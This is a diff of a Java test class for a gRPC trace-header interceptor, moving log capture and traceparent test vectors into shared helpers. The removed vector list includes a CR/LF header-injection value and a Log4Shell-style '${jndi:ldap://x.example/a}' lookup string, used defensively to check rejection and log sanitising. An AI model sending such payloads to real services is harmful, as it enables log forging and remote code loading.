@@ -4,11 +4,9 @@ import static io.github.grpcmiddleware.trace.TraceServerInterceptorTest.X_TRACE_
 import static io.github.grpcmiddleware.trace.TraceServerInterceptorTest.request;
 import static org.assertj.core.api.Assertions.assertThat;
 
-import ch.qos.logback.classic.Level;
-import ch.qos.logback.classic.Logger;
-import ch.qos.logback.classic.spi.ILoggingEvent;
-import ch.qos.logback.core.read.ListAppender;
 import io.github.grpcmiddleware.testing.GrpcServerExtension;
+import io.github.grpcmiddleware.testing.LogCapture;
+import io.github.grpcmiddleware.testsupport.TraceContextVectors;
 import io.grpc.Metadata;
 import io.grpc.stub.MetadataUtils;
 import io.grpc.testing.protobuf.SimpleServiceGrpc;
@@ -16,14 +14,11 @@ import java.util.Objects;
 import java.util.concurrent.atomic.AtomicReference;
 import java.util.stream.Stream;
 import org.jspecify.annotations.Nullable;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
-import org.slf4j.LoggerFactory;
 
 /** Valid, invalid and hostile trace headers: the right id, never a failed call or a forged log. */
 class TraceHeadersTest {
@@ -31,9 +26,9 @@ class TraceHeadersTest {
       Metadata.Key.of("traceparent", Metadata.ASCII_STRING_MARSHALLER);
   static final Metadata.Key<String> X_REQUEST_ID =
       Metadata.Key.of("x-request-id", Metadata.ASCII_STRING_MARSHALLER);
-  static final String T = "4bf92f3577b34da6a3ce929d0e0e4736";
-  static final String P = "00f067aa0ba902b7";
-  static final String VALID = "00-" + T + "-" + P + "-01";
+  static final String T = TraceContextVectors.TRACE_ID;
+  static final String P = TraceContextVectors.PARENT_ID;
+  static final String VALID = TraceContextVectors.VALID;
 
   @RegisterExtension
   static final GrpcServerExtension grpc =
@@ -42,54 +37,15 @@ class TraceHeadersTest {
           .interceptor(TraceIds.newServerInterceptor())
           .build();
 
-  final Logger traceLog = (Logger) LoggerFactory.getLogger("io.github.grpcmiddleware.trace");
-  final ListAppender<ILoggingEvent> appender = new ListAppender<>();
-
-  @BeforeEach
-  void captureLogs() {
-    traceLog.setLevel(Level.DEBUG);
-    appender.start();
-    traceLog.addAppender(appender);
-  }
-
-  @AfterEach
-  void stopCapture() {
-    traceLog.detachAppender(appender);
-    traceLog.setLevel(null);
-  }
+  @RegisterExtension
+  final LogCapture traceLog =
+      LogCapture.forLogger("io.github.grpcmiddleware.trace").atLevel("DEBUG");
 
   static Stream<Arguments> traceparents() {
-    return Stream.of(
-        Arguments.of("version 00", VALID, T),
-        Arguments.of("not sampled", "00-" + T + "-" + P + "-00", T),
-        Arguments.of("unknown flag bits", "00-" + T + "-" + P + "-09", T),
-        Arguments.of("higher version, 55 chars", "01-" + T + "-" + P + "-01", T),
-        Arguments.of("higher version, more fields", "cc-" + T + "-" + P + "-01-what-next", T),
-        Arguments.of("higher version, trailing dash", "fe-" + T + "-" + P + "-01-", T),
-        Arguments.of("version ff", "ff-" + T + "-" + P + "-01", null),
-        Arguments.of("uppercase trace id", "00-" + T.toUpperCase() + "-" + P + "-01", null),
-        Arguments.of("uppercase parent id", "00-" + T + "-" + P.toUpperCase() + "-01", null),
-        Arguments.of("uppercase flags", "00-" + T + "-" + P + "-0A", null),
-        Arguments.of("uppercase version", "0A-" + T + "-" + P + "-01", null),
-        Arguments.of("zero trace id", "00-" + "0".repeat(32) + "-" + P + "-01", null),
-        Arguments.of("zero parent id", "00-" + T + "-" + "0".repeat(16) + "-01", null),
-        Arguments.of("version 00 too long", VALID + "-", null),
-        Arguments.of("version 00 too long, more fields", VALID + "-what-next", null),
-        Arguments.of("too short", VALID.substring(0, 54), null),
-        Arguments.of("higher version too short", "01-" + T + "-" + P + "-1", null),
-        Arguments.of("higher version, no dash after flags", "01-" + T + "-" + P + "-01x", null),
-        Arguments.of("non-hex trace id", "00-" + T.substring(0, 31) + "g-" + P + "-01", null),
-        Arguments.of("non-hex version", "0g-" + T + "-" + P + "-01", null),
-        Arguments.of("non-hex flags", "00-" + T + "-" + P + "-0z", null),
-        Arguments.of("wrong delimiter", "00_" + T + "-" + P + "-01", null),
-        Arguments.of("short trace id", "00-" + T.substring(1) + "-" + P + "-01x", null),
-        Arguments.of("leading space", " " + VALID.substring(0, 54), null),
-        Arguments.of("empty", "", null),
-        Arguments.of("10 KB", "0".repeat(10 * 1024), null),
-        Arguments.of("CR/LF", "00-" + T + "\r\n-" + P + "-01", null),
-        Arguments.of("CR/LF after a valid value", VALID + "\r\nx-forged: 1", null),
-        Arguments.of("non-ASCII", "00-" + T.substring(0, 31) + "é-" + P + "-01", null),
-        Arguments.of("lookup syntax", "${jndi:ldap://x.example/a}-" + T + "-" + P, null));
+    return Stream.concat(
+        TraceContextVectors.traceparents().stream()
+            .map(c -> Arguments.of(c.name(), c.value(), c.continues() ? T : null)),
+        Stream.of(Arguments.of("not sampled", "00-" + T + "-" + P + "-00", T)));
   }
 
   @ParameterizedTest(name = "[{index}] {0}")
@@ -101,15 +57,15 @@ class TraceHeadersTest {
 
     if (expected != null) {
       assertThat(seen[0]).isEqualTo(expected);
-      assertThat(appender.list).isEmpty();
+      assertThat(traceLog.events()).isEmpty();
     } else {
       assertThat(seen[0]).matches("[0-9a-f]{32}").isNotEqualTo(T);
-      assertThat(appender.list)
+      assertThat(traceLog.events())
           .singleElement()
           .satisfies(
               e -> {
-                assertThat(e.getLevel()).isEqualTo(Level.DEBUG);
-                assertThat(e.getFormattedMessage()).doesNotContain("\r", "\n", T);
+                assertThat(e.level()).isEqualTo("DEBUG");
+                assertThat(e.message()).doesNotContain("\r", "\n", T);
               });
     }
   }
@@ -140,11 +96,11 @@ class TraceHeadersTest {
 
     assertThat(seen[0]).matches("[0-9a-f]{32}").isNotEqualTo(value);
     assertThat(seen[3]).isEqualTo(kept ? value : "null");
-    assertThat(appender.list)
+    assertThat(traceLog.events())
         .allSatisfy(
             e -> {
-              assertThat(e.getLevel()).isEqualTo(Level.DEBUG);
-              assertThat(e.getFormattedMessage()).doesNotContain("\r", "\n", "${");
+              assertThat(e.level()).isEqualTo("DEBUG");
+              assertThat(e.message()).doesNotContain("\r", "\n", "${");
             });
   }
 
@@ -175,7 +131,7 @@ class TraceHeadersTest {
     String second = call(new Metadata())[0];
     assertThat(first).matches("[0-9a-f]{32}");
     assertThat(second).matches("[0-9a-f]{32}").isNotEqualTo(first);
-    assertThat(appender.list).isEmpty();
+    assertThat(traceLog.events()).isEmpty();
   }
 
   /** Makes a unary call; returns what the handler saw, checking the echo and success. */
